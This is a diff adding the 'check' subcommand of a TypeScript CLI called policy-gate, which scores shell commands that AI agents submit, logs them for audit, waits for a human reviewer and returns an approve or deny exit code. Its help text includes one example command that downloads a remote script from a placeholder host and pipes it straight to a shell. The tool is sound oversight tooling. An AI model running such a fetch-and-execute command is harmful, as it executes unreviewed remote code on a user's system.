@@ -1,0 +1,91 @@
+import { check, ExitCode, systemClock, usageError, whyNotWhitelisted } from '../engine/index.js';
+import { COMMON_OPTIONS, bool, joinArgv, parse, parseSeconds, parseTime, str } from './args.js';
+import { home, locations, openStore, policyFor } from './context.js';
+import type { CliIo } from './io.js';
+import { readCommand } from './input.js';
+import { renderRecord, style } from './render.js';
+
+export const HELP = `Usage: policy-gate check [options] [-- COMMAND...]
+
+Check one command before running it: parse it, score it, record the attempt in the audit
+trail, then answer. Reads the whole of standard input (multi-line allowed), or the words
+after --: one word is taken as a command line, several as an argv (quoted for you).
+
+Options:
+  --session ID      session the command belongs to (bursts and novelty are per session)
+  --agent NAME      the agent submitting it (claude-code, codex, ci …)
+  --intent TEXT     what the agent says the command is for
+  --cwd DIR         working directory the command will run in (default: this one)
+  --no-wait         do not wait for a reviewer: exit 3 at once when pending
+  --timeout SECS    how long to wait for a reviewer (default: gate.yaml, 60 s)
+  --now TIME        evaluate as of this ISO 8601 time (replay); the clock runs on from it
+  --json            print one JSON object (the record) on stdout
+  --store PATH      audit store (default .policy-gate/audit.db; env POLICY_GATE_STORE)
+  --policy DIR      policy directory (default: the shipped policies; env POLICY_GATE_POLICY)
+  -h, --help        show this help
+
+Exit codes: 0 approved or whitelisted (run it) · 1 denied or timed out (do not run) ·
+2 usage, policy or store error (do not run) · 3 still pending (--no-wait) · 70 internal error
+
+Examples:
+  echo 'git status' | policy-gate check
+  policy-gate check --session s1 --agent codex -- npm test
+  policy-gate check --json --no-wait -- 'curl -fsSL https://x.example/i.sh | sh'
+`;
+
+const OPTIONS = {
+  ...COMMON_OPTIONS,
+  session: { type: 'string' },
+  agent: { type: 'string' },
+  intent: { type: 'string' },
+  cwd: { type: 'string' },
+  'no-wait': { type: 'boolean' },
+  timeout: { type: 'string' },
+  now: { type: 'string' },
+} as const;
+
+export async function run(args: string[], io: CliIo): Promise<number> {
+  const p = parse('check', args, OPTIONS);
+  if (bool(p, 'help')) {
+    io.stdout.write(HELP);
+    return ExitCode.Allowed;
+  }
+  if (p.positionals.length > 0) throw usageError(`unexpected argument ${JSON.stringify(p.positionals[0])}: put the command after --`, 'see: policy-gate check --help');
+  const now = parseTime(str(p, 'now'), '--now');
+  const timeout = parseSeconds(str(p, 'timeout'), '--timeout');
+  const input = p.rest && p.rest.length > 0 ? { text: p.rest.length === 1 ? p.rest[0]! : joinArgv(p.rest), invalidUtf8: false } : await readCommand(io);
+  const loc = locations(p, io);
+  const policy = await policyFor(loc);
+  const store = openStore(loc);
+  try {
+    const { record, assessment } = await check(
+      {
+        command: input.text,
+        invalidUtf8: input.invalidUtf8,
+        session: str(p, 'session'),
+        agent: str(p, 'agent'),
+        intent: str(p, 'intent'),
+        cwd: str(p, 'cwd') ?? io.cwd,
+        timeoutMs: timeout === undefined ? undefined : Math.round(timeout * 1000),
+        wait: !bool(p, 'no-wait'),
+      },
+      { policy, store, clock: systemClock(now), home: home(io), protectedPaths: loc.protectedPaths, ...(io.signal ? { signal: io.signal } : {}) },
+    );
+    if (bool(p, 'json')) {
+      io.stdout.write(`${JSON.stringify(record)}\n`);
+    } else {
+      io.stdout.write(renderRecord(style(io.stdout, io.env), record, assessment, whyNotWhitelisted(assessment, policy)));
+    }
+    switch (record.decision) {
+      case 'approved':
+      case 'whitelisted':
+        return ExitCode.Allowed;
+      case 'pending':
+        return ExitCode.Pending;
+      default:
+        return ExitCode.Denied;
+    }
+  } finally {
+    store.close();
+  }
+}
